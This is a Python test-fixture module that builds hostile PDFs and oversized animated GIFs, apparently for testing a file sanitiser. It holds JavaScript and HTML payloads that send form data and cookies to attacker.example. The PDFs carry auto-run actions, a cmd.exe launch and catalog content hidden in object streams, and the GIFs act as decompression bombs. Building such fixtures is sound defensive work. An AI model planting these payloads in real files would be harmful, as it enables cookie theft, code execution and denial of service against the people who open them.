"""Hostile evidence files, built byte by byte here (never downloaded).

PDFs: each page draws a black square (so the clean copy can be checked to still show it) and carries
one trick of active content. GIFs: animations that are tiny on disk and huge once decoded.
"""

from __future__ import annotations

import io
import zlib

from PIL import Image

SCRIPT = b"app.alert('pwned'); this.submitForm('https://attacker.example/steal')"
HTML = b"<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>"
# A black square 100 x 100 points at (50, 50) on a 300 x 300 page.
CONTENT = b"0 0 0 rg 50 50 100 100 re f"
PAGE_SIZE = (300, 300)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A classic PDF (xref table) from numbered object bodies."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    size = max(objects) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref))
    return out.getvalue()


def build_pdf_with_object_stream(plain: dict[int, bytes], packed: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF 1.5 file whose `packed` objects live compressed inside an object stream, with an xref stream."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(plain):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n")
    numbers = sorted(packed)
    bodies = [packed[n] for n in numbers]
    index, position = [], 0
    for number, body in zip(numbers, bodies, strict=True):
        index.append(b"%d %d" % (number, position))
        position += len(body) + 1
    head = b" ".join(index) + b"\n"
    data = head + b"\n".join(bodies) + b"\n"
    object_stream = max([*plain, *packed]) + 1
    offsets[object_stream] = out.tell()
    compressed = zlib.compress(data)
    out.write(
        b"%d 0 obj\n" % object_stream
        + _stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(numbers), len(head)), compressed)
        + b"\nendobj\n"
    )
    xref_number = object_stream + 1
    size = xref_number + 1
    offsets[xref_number] = out.tell()
    rows = []
    for number in range(size):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in packed:
            rows.append(b"\x02" + object_stream.to_bytes(4, "big") + numbers.index(number).to_bytes(2, "big"))
        else:
            rows.append(b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff")
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n" % xref_number
        + _stream(b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (size, root), table)
        + b"\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


def _page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R %s >>" % (*PAGE_SIZE, extra)


def _basic(page_extra: bytes = b"", catalog_extra: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: _page(page_extra),
        4: _stream(b"", CONTENT),
    }


def pdf_link_chaining_javascript_and_attached_html() -> bytes:
    """A link whose /URI action chains JavaScript through /Next, and a /FileAttachment carrying HTML."""
    objects = _basic(page_extra=b"/Annots [5 0 R 6 0 R]")
    objects[5] = (
        b"<< /Type /Annot /Subtype /Link /Rect [50 50 150 150] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://example.org/publication) "
        b"/Next << /S /JavaScript /JS (" + SCRIPT + b") >> >> >>"
    )
    objects[6] = (
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [200 200 220 220] /Name /PushPin "
        b"/Contents (page.html) /FS << /Type /Filespec /F (page.html) /UF (page.html) /EF << /F 7 0 R >> >> >>"
    )
    objects[7] = _stream(b"/Type /EmbeddedFile /Subtype /text#2Fhtml", HTML)
    return build_pdf(objects)


def pdf_form_field_with_javascript() -> bytes:
    """An /AcroForm text field whose widget runs JavaScript on keystroke and on focus, plus an XFA packet."""
    objects = _basic(page_extra=b"/Annots [5 0 R]", catalog_extra=b"/AcroForm << /Fields [5 0 R] /XFA 6 0 R >>")
    objects[5] = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [160 160 280 190] /F 4 "
        b"/A << /S /JavaScript /JS (" + SCRIPT + b") >> "
        b"/AA << /K << /S /JavaScript /JS (" + SCRIPT + b") >> /Fo << /S /JavaScript /JS (" + SCRIPT + b") >> >> >>"
    )
    xfa = b"<xdp:xdp><script contentType='application/x-javascript'>" + SCRIPT + b"</script></xdp:xdp>"
    objects[6] = _stream(b"", xfa)
    return build_pdf(objects)


def pdf_open_action_in_object_stream() -> bytes:
    """The catalog, with an /OpenAction and document-level JavaScript and files, hidden in an object stream."""
    packed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R "
        b"/Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(page.html) 6 0 R] >> >> "
        b"/AA << /WC << /S /Launch /F (cmd.exe) >> >> >>",
        5: b"<< /S /JavaScript /JS (" + SCRIPT + b") /Next << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
        6: b"<< /Type /Filespec /F (page.html) /EF << /F 7 0 R >> >>",
    }
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: _page(b"/AA << /O << /S /JavaScript /JS (" + SCRIPT + b") >> >>"),
        4: _stream(b"", CONTENT),
        7: _stream(b"/Type /EmbeddedFile", HTML),
    }
    return build_pdf_with_object_stream(plain, packed)


HOSTILE_PDFS = {
    "link-next-javascript-and-attached-html": pdf_link_chaining_javascript_and_attached_html,
    "acroform-field-javascript-and-xfa": pdf_form_field_with_javascript,
    "open-action-in-object-stream": pdf_open_action_in_object_stream,
}


def animated_gif(frames: int, size: tuple[int, int]) -> bytes:
    """A few kilobytes on disk, frames × width × height pixels once decoded: one flat first frame, then
    frames that each change a single pixel (written as 1 × 1 rectangles, composed on the whole canvas)."""
    first = Image.new("P", size, 0)
    first.putpalette([0, 0, 0, 255, 255, 255] * 128)
    pictures = [first]
    for index in range(1, frames):
        picture = first.copy()
        picture.putpixel((index % size[0], 0), 1)
        pictures.append(picture)
    out = io.BytesIO()
    pictures[0].save(out, format="GIF", save_all=True, append_images=pictures[1:], duration=100, loop=0)
    return out.getvalue()
